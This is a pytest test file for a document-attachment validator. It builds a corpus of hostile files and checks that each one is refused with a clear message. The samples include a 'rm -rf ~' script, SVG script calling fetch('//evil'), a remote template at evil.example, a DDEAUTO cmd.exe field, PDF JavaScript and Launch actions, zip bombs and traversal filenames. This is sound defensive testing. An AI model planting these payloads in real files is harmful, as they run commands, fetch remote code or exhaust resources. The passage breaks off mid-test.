"""Evidence files: every accepted kind passes with its facts; a hostile corpus is refused, each with
its message. Every file is built here, by code."""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib

import openpyxl
import pytest

from socplan.attachments import (
    KINDS,
    AttachmentRefused,
    EvidenceLimits,
    check_attachment,
    clean_name,
    evidence_max_bytes,
)
from socplan.config import Settings, load_settings

CAP = 20 * 1024 * 1024


def check(name: str, data: bytes, **kwargs):
    return check_attachment(name, data, max_bytes=kwargs.pop("max_bytes", CAP), **kwargs)


def refusal(name: str, data: bytes, **kwargs) -> str:
    with pytest.raises(AttachmentRefused) as caught:
        check(name, data, **kwargs)
    return str(caught.value)


# --- builders: good files --------------------------------------------------------------------


def png(width: int = 2, height: int = 2) -> bytes:
    """A real PNG (greyscale, 8 bits): signature, IHDR, one IDAT, IEND, each with its CRC."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    rows = b"".join(b"\x00" + bytes(width) for _ in range(min(height, 4)))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def jpeg(width: int = 8, height: int = 8) -> bytes:
    """A baseline greyscale JPEG: one flat 8x8 block, Huffman tables of one code each."""

    def segment(marker: int, body: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body

    jfif = segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
    quant = segment(0xDB, b"\x00" + bytes([1] * 64))
    frame = segment(0xC0, b"\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00")
    counts = bytes([1] + [0] * 15)
    huffman = segment(0xC4, b"\x00" + counts + b"\x00") + segment(0xC4, b"\x10" + counts + b"\x00")
    scan = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
    return b"\xff\xd8" + jfif + quant + frame + huffman + scan + b"\x3f" + b"\xff\xd9"


def pdf(*extra_objects: bytes, catalog_extra: bytes = b"") -> bytes:
    """A small, complete PDF: catalog, pages, one page with a line of text; a correct xref."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(b"BT /F1 12 Tf 72 770 Td (Minutes of the JAG meeting) Tj ET"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _stream(body: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(body), dictionary) + body + b"\nendstream"


def zip_of(members: dict[str, bytes], *, stored: tuple[str, ...] = ()) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            method = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return buffer.getvalue()


def members_of(data: bytes) -> dict[str, bytes]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return {info.filename: archive.read(info) for info in archive.infolist()}


def xlsx() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["Ref", "Milestone"])
    book.active.append(["R1.1", "Map county lines"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def docx() -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    document.add_paragraph("Signed partnership agreement")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


ODF_MANIFEST = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
    b'manifest:version="1.2">'
    b'<manifest:file-entry manifest:full-path="/" manifest:media-type="%s"/>'
    b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    b"%s</manifest:manifest>"
)
ODF_BODY = {
    "text": b"<office:text><text:p>Minutes of the SOC Joint Action Group</text:p></office:text>",
    "spreadsheet": (
        b'<office:spreadsheet><table:table table:name="Sheet1"><table:table-row>'
        b'<table:table-cell office:value-type="string"><text:p>R1.1</text:p></table:table-cell>'
        b'<table:table-cell office:value-type="float" office:value="50"><text:p>50</text:p>'
        b"</table:table-cell></table:table-row></table:table></office:spreadsheet>"
    ),
    "presentation": (b'<office:presentation><draw:page draw:name="page1"/></office:presentation>'),
}


def odf(kind: str, *, extra: dict[str, bytes] | None = None, manifest_extra: bytes = b"") -> bytes:
    """A minimal valid OpenDocument file: `mimetype` first and stored, manifest, content."""
    media_type = b"application/vnd.oasis.opendocument." + kind.encode()
    content = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content '
        b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        b'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" office:version="1.2">'
        b"<office:body>" + ODF_BODY[kind] + b"</office:body></office:document-content>"
    )
    members = {
        "mimetype": media_type,
        "META-INF/manifest.xml": ODF_MANIFEST % (media_type, manifest_extra),
        "content.xml": content,
        **(extra or {}),
    }
    return zip_of(members, stored=("mimetype",))


GOOD = {
    "minutes.pdf": (pdf, "pdf", "application/pdf"),
    "photo.png": (png, "png", "image/png"),
    "photo.jpg": (jpeg, "jpeg", "image/jpeg"),
    "agreement.docx": (docx, "docx", KINDS["docx"].media_type),
    "tracker.xlsx": (xlsx, "xlsx", KINDS["xlsx"].media_type),
    "minutes.odt": (lambda: odf("text"), "odt", "application/vnd.oasis.opendocument.text"),
    "tracker.ods": (
        lambda: odf("spreadsheet"),
        "ods",
        "application/vnd.oasis.opendocument.spreadsheet",
    ),
    "slides.odp": (
        lambda: odf("presentation"),
        "odp",
        "application/vnd.oasis.opendocument.presentation",
    ),
}


@pytest.mark.parametrize("name", GOOD)
def test_every_accepted_kind_passes_with_its_facts(name):
    build, kind, media_type = GOOD[name]
    data = build()
    attachment = check(name, data)
    assert (attachment.name, attachment.kind, attachment.media_type) == (name, kind, media_type)
    assert attachment.size == len(data)
    assert attachment.sha256 == hashlib.sha256(data).hexdigest()
    assert attachment.note == ""


def test_the_good_files_are_real():
    """The hand-built files are what they claim: readers that know the formats open them."""
    import pandas as pd

    sheet = pd.read_excel(io.BytesIO(odf("spreadsheet")), engine="calamine", header=None)
    assert sheet.iloc[0].tolist() == ["R1.1", 50]
    assert pd.read_excel(io.BytesIO(xlsx()), engine="calamine").iloc[0, 0] == "R1.1"
    assert zlib.decompress(png()[png().index(b"IDAT") + 4 : -16]) == b"\x00\x00\x00" * 2
    text = pdf()
    start = int(text[text.rindex(b"startxref") + 10 :].split()[0])
    assert text[start:].startswith(b"xref")


# --- renamed to match the content ------------------------------------------------------------


@pytest.mark.parametrize(
    "given, content, stored",
    [
        ("scan.pdf", png, "scan.png"),
        ("photo.jpg", png, "photo.png"),
        ("Photo.JPEG", jpeg, "Photo.jpeg"),
        ("minutes", pdf, "minutes.pdf"),
        ("report.pdf.exe", pdf, "report.pdf"),
        ("Report v1.2", pdf, "Report v1.2.pdf"),
        ("tracker.xls", xlsx, "tracker.xlsx"),
        ("agreement.doc", docx, "agreement.docx"),
    ],
)
def test_an_extension_that_disagrees_is_replaced_by_the_contents(given, content, stored):
    attachment = check(given, content())
    assert attachment.name == stored
    if given.lower() != stored.lower():
        assert f"'{stored}'" in attachment.note


# --- safe names ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "given, cleaned",
    [
        ("C:\\Users\\pcc\\Desktop\\minutes.pdf", "minutes.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..hidden.pdf", "hidden.pdf"),
        ("minutes\u202egpj.pdf", "minutesgpj.pdf"),  # right-to-left override: shows as fdp.jpg
        ("a\u2066b\u2069c\u200b.pdf", "abc.pdf"),
        ("line\nbreak\ttab\x00nul\x7f.pdf", "line break tabnul.pdf"),
        ('what? "quotes" <and> a|pipe*.pdf', "what_ _quotes_ _and_ a_pipe_.pdf"),
        ("  spaced   out  .pdf", "spaced out.pdf"),
        ("con.pdf", "_con.pdf"),
        ("trailing dots...", "trailing dots"),
        ("\u202e\u202e", ""),
        ("e\u0301te\u0301.pdf", "\u00e9t\u00e9.pdf"),  # combining accents composed (NFC)
    ],
)
def test_names_are_cleaned(given, cleaned):
    assert clean_name(given) == cleaned


def test_long_names_are_cut_keeping_the_extension():
    name = check("é" * 300 + ".pdf", pdf()).name
    assert name.endswith("é.pdf") and len(name.encode()) <= 150


def test_a_name_with_nothing_left_gets_one():
    assert check("\u202e/..", pdf()).name == "evidence.pdf"
    assert "The file is empty" in refusal("", b"")


# --- refused: size ---------------------------------------------------------------------------


def test_oversize_and_empty():
    message = refusal("scan.pdf", pdf() + b" " * 2_200_000, max_bytes=2 * 1024 * 1024)
    assert message.startswith("'scan.pdf' is 2.1 MB, over the 2 MB limit for evidence.")
    assert "smaller copy" in message
    assert refusal("minutes.pdf", b"") == (
        "'minutes.pdf' is empty (0 bytes). Attach it again; if it is still empty, open the "
        "original and save a new copy."
    )


def test_the_cap_is_a_setting(monkeypatch):
    assert Settings().max_evidence_mb == 20
    assert evidence_max_bytes(Settings()) == CAP
    monkeypatch.setenv("SOCPLAN_MAX_EVIDENCE_MB", "5")
    assert evidence_max_bytes(load_settings()) == 5 * 1024 * 1024
    monkeypatch.setenv("SOCPLAN_MAX_EVIDENCE_MB", "0")
    with pytest.raises(ValueError, match="SOCPLAN_MAX_EVIDENCE_MB"):
        load_settings()


# --- refused: not documents ------------------------------------------------------------------

PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)

FOREIGN = {
    "renamed exe": (
        "minutes.pdf",
        PE,
        "'minutes.pdf' is not a PDF: its content is a Windows program. Programs are never "
        "accepted. Attach the document itself.",
    ),
    "exe as itself": ("setup.exe", PE, "'setup.exe' is a Windows program."),
    "elf": (
        "photo.png",
        b"\x7fELF\x02\x01\x01" + bytes(100),
        "is not a PNG image: its content is a Linux program",
    ),
    "mach-o": ("report.docx", b"\xcf\xfa\xed\xfe" + bytes(100), "its content is a Mac program"),
    "shell script": ("notes.odt", b"#!/bin/sh\nrm -rf ~\n", "its content is a script"),
    "html as pdf": (
        "minutes.pdf",
        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        "'minutes.pdf' is not a PDF: its content is a web page (HTML). Web pages can run scripts",
    ),
    "utf-16 html": (
        "page.pdf",
        "\ufeff<html><body>hi</body></html>".encode("utf-16-le"),
        "a web page (HTML)",
    ),
    "svg with script": (
        "chart.png",
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="x()">'
        b"<script>fetch('//evil')</script></svg>",
        "'chart.png' is not a PNG image: its content is an SVG image (this one contains a "
        "script). SVG images can carry scripts that run when they are opened, so SVG is never "
        "accepted: export it as PNG",
    ),
    "plain svg": (
        "chart.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
        "'chart.svg' is an SVG image. SVG images can carry scripts",
    ),
    "rtf": ("letter.docx", b"{\\rtf1\\ansi hello}", "a Rich Text document (.rtf)"),
    "gif": ("photo.jpg", b"GIF89a" + bytes(20), "its content is a GIF image"),
    "heic": ("IMG_0001.jpg", bytes(4) + b"ftypheic" + bytes(20), "a HEIC photo"),
    "plain text": (
        "notes.txt",
        b"Just some notes\n",
        "'notes.txt' is not a kind of file we accept",
    ),
    "csv as xlsx": (
        "data.xlsx",
        b"Ref,Status\nR1,Green\n",
        "'data.xlsx' is not an Excel workbook (.xlsx): its content is not a kind of file we "
        "accept. Evidence can be PDF, Word (.docx), Excel (.xlsx), OpenDocument (.odt, .ods, "
        ".odp), PNG or JPEG",
    ),
    "plain zip": ("bundle.zip", zip_of({"a.pdf": b"%PDF-"}), "'bundle.zip' is a zip archive."),
    "zip as docx": (
        "agreement.docx",
        zip_of({"readme.txt": b"hi"}),
        "'agreement.docx' is not a Word document (.docx): its content is a zip archive. Attach "
        "the documents inside it one by one.",
    ),
    "jar": ("tool.pdf", zip_of({"META-INF/MANIFEST.MF": b"Main-Class: X"}), "a Java program"),
}


@pytest.mark.parametrize("case", FOREIGN)
def test_files_that_are_not_documents_are_refused_saying_what_they_are(case):
    name, data, expected = FOREIGN[case]
    assert expected in refusal(name, data)


# --- refused: old, encrypted, macro-enabled Office files ---------------------------------------


def ole(*streams: str) -> bytes:
    """An OLE compound file: header, one FAT sector, one directory sector naming `streams`."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:34] = struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9) + b"\x06\x00"
    struct.pack_into("<II", header, 44, 1, 1)  # one FAT sector; directory starts at sector 1
    struct.pack_into("<I", header, 76, 0)  # the FAT is sector 0
    fat = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE) + b"\xff" * 504
    entries = b""
    for number, name in enumerate(("Root Entry", *streams)):
        raw = name.encode("utf-16-le") + b"\0\0"
        entry = bytearray(128)
        entry[: len(raw)] = raw
        struct.pack_into("<HB", entry, 64, len(raw), 5 if number == 0 else 2)
        entries += bytes(entry)
    return bytes(header) + fat + entries.ljust(512, b"\0")


def ooxml(main_type: str, main_part: str, extra: dict[str, bytes] | None = None) -> bytes:
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/></Types>'
    ).encode()
    return zip_of({"[Content_Types].xml": types, main_part: b"<document/>", **(extra or {})})


def with_member(data: bytes, name: str, content: bytes) -> bytes:
    return zip_of({**members_of(data), name: content})


OFFICE = {
    "encrypted ooxml": (
        "budget.xlsx",
        ole("EncryptionInfo", "EncryptedPackage"),
        "'budget.xlsx' is password protected (encrypted), so it cannot be checked.",
    ),
    "legacy doc": (
        "minutes.doc",
        ole("WordDocument", "1Table"),
        "'minutes.doc' is an old-format Word document (.doc). Old Office formats can hide macros "
        "and are not accepted: open it and save it as a Word Document (.docx) or as PDF",
    ),
    "legacy xls renamed": (
        "tracker.xlsx",
        ole("Workbook"),
        "its content is an old-format Excel workbook (.xls). Old Office formats can hide macros "
        "and are not accepted: open it and save it as an Excel Workbook (.xlsx)",
    ),
    "outlook message": ("email.pdf", ole("__substg1.0_0037001F"), "an Outlook email message"),
    "docm renamed docx": (
        "report.docx",
        ooxml("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml"),
        "'report.docx' is not a Word document (.docx): its content is a macro-enabled Word "
        "document (.docm). Its macros can run programs when it is opened",
    ),
    "pptx": (
        "slides.pptx",
        ooxml(
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
            "ppt/presentation.xml",
        ),
        "'slides.pptx' is a PowerPoint presentation (.pptx). That kind of file is not accepted "
        "as evidence: save it as PDF or as an OpenDocument Presentation (.odp)",
    ),
    "xlsx with vbaProject.bin": (
        "tracker.xlsx",
        lambda: with_member(xlsx(), "xl/vbaProject.bin", ole("VBA")),
        "'tracker.xlsx' contains macros or embedded programs (xl/vbaProject.bin), which can run "
        "when it is opened.",
    ),
    "docx with activex": (
        "form.docx",
        lambda: with_member(docx(), "word/activeX/activeX1.xml", b"<ax/>"),
        "contains macros or embedded programs (word/activeX/activeX1.xml)",
    ),
    "docx with ole object": (
        "agreement.docx",
        lambda: with_member(docx(), "word/embeddings/oleObject1.bin", ole("Equation Native")),
        "contains macros or embedded programs (word/embeddings/oleObject1.bin)",
    ),
    "ole object under another name": (
        "agreement.docx",
        lambda: with_member(docx(), "word/media/image9.png", ole("Package")),
        "'agreement.docx' contains an embedded object from another program (word/media/image9.png)",
    ),
    "program inside": (
        "agreement.docx",
        lambda: with_member(docx(), "word/media/image1.png", PE),
        "'agreement.docx' contains a Windows program (word/media/image1.png).",
    ),
    "vba content type declared": (
        "tracker.xlsx",
        lambda: with_member(
            xlsx(),
            "[Content_Types].xml",
            members_of(xlsx())["[Content_Types].xml"].replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                b"</Types>",
            ),
        ),
        "its content types declare 'vbaproject'",
    ),
    "remote template": (
        "letter.docx",
        lambda: with_member(
            docx(),
            "word/_rels/settings.xml.rels",
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        ),
        "fetch a template or object from elsewhere when it is opened (https://evil.example/t.dotm)",
    ),
    "dde field": (
        "memo.docx",
        lambda: with_member(
            docx(),
            "word/document.xml",
            members_of(docx())["word/document.xml"].replace(
                b"</w:body>",
                b"<w:p><w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"'/>"
                b"</w:p></w:body>",
            ),
        ),
        "a link or field that runs a macro or a command when it is used ('ddeauto' in "
        "word/document.xml)",
    ),
    "encrypted zip member": (
        "tracker.xlsx",
        lambda: _flag_encrypted(xlsx()),
        "'tracker.xlsx' is password protected (encrypted)",
    ),
    "ods with basic": (
        "tracker.ods",
        lambda: odf("spreadsheet", extra={"Basic/Standard/Module1.xml": b"<script:module/>"}),
        "'tracker.ods' contains macros or embedded programs (Basic/Standard/Module1.xml)",
    ),
    "odt with scripts": (
        "minutes.odt",
        lambda: odf("text", extra={"Scripts/python/run.py": b"import os"}),
        "contains macros or embedded programs (Scripts/python/run.py)",
    ),
    "odt with a macro link": (
        "minutes.odt",
        lambda: odf(
            "text",
            extra={
                "content.xml": b'<office:document-content><text:a xlink:href="vnd.sun.star.'
                b"script:pythonSamples|TableSample.py$createTable?language=Python&amp;"
                b'location=share"/></office:document-content>'
            },
        ),
        "('vnd.sun.star.script:' in content.xml)",
    ),
    "encrypted odt": (
        "minutes.odt",
        lambda: odf(
            "text",
            manifest_extra=b'<manifest:file-entry manifest:full-path="styles.xml"><manifest:'
            b'encryption-data manifest:checksum-type="SHA1/1K"/></manifest:file-entry>',
        ),
        "'minutes.odt' is password protected (encrypted)",
    ),
    "odf mimetype compressed": (
        "minutes.odt",
        lambda: zip_of(members_of(odf("text"))),
        "'minutes.odt' looks damaged",
    ),
    "odf drawing": (
        "diagram.odt",
        lambda: zip_of(
            {"mimetype": b"application/vnd.oasis.opendocument.graphics", "content.xml": b"<x/>"},
            stored=("mimetype",),
        ),
        "an OpenDocument file of a kind we do not accept "
        "(application/vnd.oasis.opendocument.graphics)",
    ),
    "damaged zip": ("tracker.xlsx", lambda: xlsx()[:-30], "'tracker.xlsx' looks damaged"),
    "docx missing its main part": (
        "memo.docx",
        lambda: zip_of({k: v for k, v in members_of(docx()).items() if k != "word/document.xml"}),
        "'memo.docx' looks damaged",
    ),
}


def _flag_encrypted(data: bytes) -> bytes:
    at = data.rfind(b"PK\x01\x02")
    flags = struct.unpack("<H", data[at + 8 : at + 10])[0] | 1
    return data[: at + 8] + struct.pack("<H", flags) + data[at + 10 :]


@pytest.mark.parametrize("case", OFFICE)
def test_old_encrypted_and_active_office_files_are_refused(case):
    name, build, expected = OFFICE[case]
    data = build() if callable(build) else build
    assert expected in refusal(name, data)


# --- zip bombs -------------------------------------------------------------------------------


def raw_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip from already-deflated members: (name, deflated bytes, CRC-32, size)."""
    out, directory = bytearray(), bytearray()
    for name, deflated, crc, size in members:
        encoded = name.encode()
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0, crc, len(deflated), size)
        directory += (
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fields
            + struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, len(out))
            + encoded
        )
        out += b"PK\x03\x04" + fields + struct.pack("<HH", len(encoded), 0) + encoded + deflated
    end = struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(directory), len(out), 0)
    return bytes(out + directory + b"PK\x05\x06" + end)


def zeros(megabytes: int) -> tuple[bytes, int, int]:
    """`megabytes` MB of zeros, deflated (built from one deflated megabyte repeated), CRC, size."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    deflated = block * megabytes + b"\x03\x00"  # full flushes: blocks that stand alone; end block
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(bytes(1 << 20), crc)
    return deflated, crc, megabytes << 20


def xlsx_with(name: str, bomb: tuple[bytes, int, int]) -> bytes:
    members = [
        (n, zlib.compress(d)[2:-4], zlib.crc32(d), len(d)) for n, d in members_of(xlsx()).items()
    ]
    return raw_zip([*members, (name, *bomb)])


def test_the_bomb_builder_makes_real_zeros():
    data = raw_zip([("z", *zeros(3))])
    assert zipfile.ZipFile(io.BytesIO(data)).read("z") == bytes(3 << 20)


def test_a_zip_bomb_inside_an_xlsx_is_refused_unopened():
    message = refusal("tracker.xlsx", xlsx_with("xl/media/image1.png", zeros(600)))
    assert message.startswith(
        "'tracker.xlsx' would expand to 600 MB when opened, over the 400 MB limit"
    )
    assert "zip bomb" in message and "save it as PDF" in message


def test_a_member_that_expands_too_far_is_refused():
    small_bomb = xlsx_with("xl/sharedStrings.xml", zeros(20))  # 20 MB in ~20 KB
    assert "expands" in refusal("tracker.xlsx", small_bomb) and "times" in refusal(
        "tracker.xlsx", small_bomb
    )
    member = refusal("tracker.xlsx", small_bomb, limits=EvidenceLimits(max_ratio=10_000))
    assert member.startswith("'tracker.xlsx': its part xl/sharedStrings.xml expands 1,0")


def test_a_nested_bomb_counts_against_the_same_budget():
    inner = xlsx_with("xl/sharedStrings.xml", zeros(8))
    outer = with_member(docx(), "word/embeddings/Microsoft_Excel_Worksheet.xlsx", inner)
    assert refusal("report.docx", outer).startswith(
        "'report.docx': the document inside it (word/embeddings/Microsoft_Excel_Worksheet.xlsx) "
        "expands"
    )
    lenient = {"max_member_ratio": 10_000, "max_ratio": 10_000}
    assert check("report.docx", outer, limits=EvidenceLimits(**lenient)).kind == "docx"
    small = EvidenceLimits(max_uncompressed_bytes=6 << 20, **lenient)
    assert "inside it (word/embeddings/Microsoft_Excel_Worksheet.xlsx) would expand to" in (
        refusal("report.docx", outer, limits=small)
    )


def test_nested_archives():
    chart_data = with_member(docx(), "word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx())
    assert check("report.docx", chart_data).kind == "docx"
    macro_inside = with_member(
        docx(),
        "word/embeddings/Microsoft_Excel_Worksheet.xlsm",
        with_member(xlsx(), "xl/vbaProject.bin", ole("VBA")),
    )
    assert (
        "'report.docx' holds a document that contains macros or embedded programs "
        "(xl/vbaProject.bin)" in refusal("report.docx", macro_inside)
    )
    plain = with_member(docx(), "word/embeddings/package.zip", zip_of({"run.js": b"x"}))
    assert "contains a zip archive (word/embeddings/package.zip)" in refusal("report.docx", plain)
    deeper = with_member(
        docx(), "word/embeddings/Book.xlsx", with_member(xlsx(), "xl/embeddings/Inner.xlsx", xlsx())
    )
    assert "holds archives inside archives (xl/embeddings/Inner.xlsx)" in refusal(
        "report.docx", deeper
    )


def test_a_central_directory_too_large_is_refused_before_it_is_parsed():
    many = zip_of({f"customXml/item{i}.xml": b"" for i in range(60)})
    assert "more parts than any genuine document" in refusal(
        "x.docx", many, limits=EvidenceLimits(max_directory_bytes=1000)
    )
    assert "more parts than any genuine document" in refusal(
        "x.docx", many, limits=EvidenceLimits(max_members=50)
    )


# --- PDF -------------------------------------------------------------------------------------

JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"

PDFS = {
    "javascript": (
        pdf(JS_ACTION, catalog_extra=b"/OpenAction 6 0 R "),
        "'minutes.pdf' is a PDF with JavaScript (/JavaScript), which can run when it is opened. "
        "Print it to a new PDF",
    ),
    "hex-escaped name": (
        pdf(b"<< /S /J#61vaScript /J#53 (x) >>", catalog_extra=b"/OpenAction 6 0 R "),
        "JavaScript (/JavaScript)",
    ),
    "launch": (
        pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog_extra=b"/OpenAction 6 0 R "),
        "a PDF with an action that starts programs (/Launch)",
    ),
    "embedded file": (
        pdf(_stream(b"MZ...", b"/Type /EmbeddedFile ")),
        "files embedded in it (/EmbeddedFile), which cannot be checked",
    ),
    "javascript in a compressed object stream": (
        pdf(
            _stream(
                zlib.compress(b"7 0 " + JS_ACTION),
                b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ",
            )
        ),
        "JavaScript (/JavaScript)",
    ),
    "encrypted": (
        pdf(b"<< /Filter /Standard /V 2 /R 3 /P -4 >>").replace(
            b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 6 0 R"
        ),
        "'minutes.pdf' is a password-protected or restricted (encrypted) PDF",
    ),
    "object stream bomb": (
        pdf(_stream(zlib.compress(bytes(3 << 20)), b"/Type /ObjStm /Filter /FlateDecode ")),
        "whose compressed parts expand past 1 MB",
    ),
    "unusual filter on an object stream": (
        pdf(_stream(b"00", b"/Type /ObjStm /Filter /ASCIIHexDecode ")),
        "compressed in an unusual way that cannot be checked",
    ),
    "cut short": (pdf()[:-20], "'minutes.pdf' looks incomplete"),
    "unterminated stream": (b"%PDF-1.4\n1 0 obj\n<< >>\nstream\nabc %%EOF", "looks damaged"),
}


@pytest.mark.parametrize("case", PDFS)
def test_active_or_unreadable_pdfs_are_refused(case):
    data, expected = PDFS[case]
    assert expected in refusal(
        "minutes.pdf", data, limits=EvidenceLimits(max_pdf_inflated_bytes=1 << 20)
    )


def test_names_inside_page_content_and_text_do_not_count():
    """Stream bodies other than object streams are not read: a page may say /JS in its drawing."""
    drawn = pdf(_stream(zlib.compress(b"/JS gs /Launch Do"), b"/Filter /FlateDecode "))
    assert check("minutes.pdf", drawn).kind == "pdf"
    plain_objects = pdf(
        _stream(zlib.compress(b"1 0 << /Type /Font >>"), b"/Type /ObjStm /Filter /FlateDecode ")
    )
    assert check("minutes.pdf", plain_objects).kind == "pdf"


# --- images ----------------------------------------------------------------------------------


def test_decompression_bomb_images_are_refused_from_their_headers():
    assert refusal("photo.png", png(100_000, 100_000)) == (
        "'photo.png' says it is 100,000 × 100,000 pixels (10,000 megapixels), over the 100 "
        "megapixel limit: opening an image that large could exhaust a computer's memory. Resize "
        "it (a phone photo is under 50 megapixels) and attach it again."
    )
    assert "65,535 × 65,535 pixels" in refusal("photo.jpg", jpeg(65_535, 65_535))
    assert check("photo.jpg", jpeg(12_000, 8_000)).kind == "jpeg"  # 96 megapixels: a big camera


def test_broken_image_headers_are_refused():
    good = png()
    assert "'photo.png' looks damaged" in refusal("photo.png", good[:29] + b"\0\0\0\0" + good[33:])
    assert "looks damaged" in refusal("photo.png", good[:20])
    assert "looks damaged" in refusal("photo.png", png(0, 5))
    assert "'photo.jpg' looks damaged" in refusal("photo.jpg", b"\xff\xd8\xff" + b"\xff" * 5000)
    no_frame = jpeg().replace(b"\xff\xc0", b"\xff\xe1")
    assert "looks damaged" in refusal("photo.jpg", no_frame)


def test_every_message_names_the_file_and_says_what_to_do():
    """A refusal is one paragraph for a policy officer: the file's name, then a way forward."""
    cases = [(n, d) for n, d, _ in FOREIGN.values()]
    cases += [(n, b() if callable(b) else b) for n, b, _ in OFFICE.values()]
    cases += [("minutes.pdf", d) for d, _ in PDFS.values()]
    for name, data in cases:
        message = refusal(name, data, limits=EvidenceLimits(max_pdf_inflated_bytes=1 << 20))
        assert message.startswith(f"'{name}'"), message
        assert "\n" not in message and message.endswith("."), message
        assert any(
            verb in message for verb in ("ttach", "Save", "save", "Print", "Export", "export")
        ), message


# --- bounded time ----------------------------------------------------------------------------


@pytest.mark.timeout(20)
def test_crafted_repetition_costs_one_pass():
    """Text built to make a scanner go back over itself (a `stream` keyword with no dictionary a
    million times; a hundred thousand `<Override`s and `<Relationship`s with no `>`) is read
    once: under a quadratic scan each of these would take minutes."""
    words = b"%PDF-1.4\n" + b"stream\n" * 1_000_000 + b"%%EOF\n"
    assert check("x.pdf", words).kind == "pdf"
    streams = b"%PDF-1.4\n" + b"<<>>stream\nendstream" * 200_000 + b"%%EOF\n"
    assert check("x.pdf", streams).kind == "pdf"
    names = b"%PDF-1.4\n" + b"/J#61/a/b#20c" * 300_000 + b"%%EOF\n"
    assert check("x.pdf", names).kind == "pdf"
    lenient = EvidenceLimits(max_ratio=10_000, max_member_ratio=10_000)  # let the scans run
    types = b"<Types>" + b"<Override PartName='/x' " * 80_000
    assert "an Office file of a kind we do not accept" in refusal(
